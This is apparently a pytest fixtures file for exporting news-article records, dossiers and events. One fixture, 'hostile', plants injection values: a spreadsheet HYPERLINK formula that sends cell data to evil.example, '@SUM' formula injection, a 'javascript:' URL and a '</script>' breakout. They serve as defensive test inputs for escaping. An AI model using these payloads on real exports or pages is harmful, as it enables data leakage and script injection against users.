"""What exports are made of: the article of the serving tests with everything a record can have."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest
from tests.unit.link import bridge

from wortlaut.link.dossier import dossier_of
from wortlaut.link.finding import part_of, stories_like
from wortlaut.model.dossier import Dossier
from wortlaut.model.identity import ActorId, EventId, StatementId, article_id
from wortlaut.model.record import Event, Record
from wortlaut.model.span import Span
from wortlaut.record.chosen import Kept
from wortlaut.serve.export.material import Material

Of = Callable[..., Material]


@pytest.fixture
def whole(disputed: Record, dated: Record) -> Record:
    """The record with times, disputes and an event in it."""
    trigger = Span(*(disputed.text.index("öffnen") + at for at in (0, len("öffnen"))))
    event = Event(
        EventId("e1"), "REJECT", trigger, (ActorId("a1"), ActorId("a2")), (ActorId("a3"),), None,
        "2024-05-07", "denied", StatementId("s1"), 0.8,
    )  # fmt: skip
    return replace(disputed, times=dated.times, events=(event,))


@pytest.fixture
def of() -> Of:
    """Make material of records."""

    def made(*records: Record, dossiers: tuple[Dossier, ...] = ()) -> Material:
        return Material([Kept(record, "rules/1") for record in records], dossiers=dossiers)

    return made


@pytest.fixture(scope="session")
def bridge_story() -> Dossier:
    """The dossier of a story of several articles."""
    whole = dossier_of(bridge.records())
    (story,) = stories_like(whole, "Annenbrücke Bürgermeister")
    return part_of(whole, story)


@pytest.fixture
def hostile(record: Record) -> Record:
    """The record as somebody would write it who wants to do harm by names."""
    evil = '=HYPERLINK("http://evil.example/"&A1,"x")'
    actors = (replace(record.actors[0], name=evil), *record.actors[1:]) if record.actors else ()
    source = replace(record.article.source, url="javascript:alert(1)", uri="</script>\n-x")
    id = article_id(record.text, "@SUM(1)", None)
    outlet = replace(record.article.outlet, name="@SUM(1)") if record.article.outlet else None
    article = replace(record.article, id=id, source=source, outlet=outlet, published=None)
    return replace(record, article=article, actors=actors)
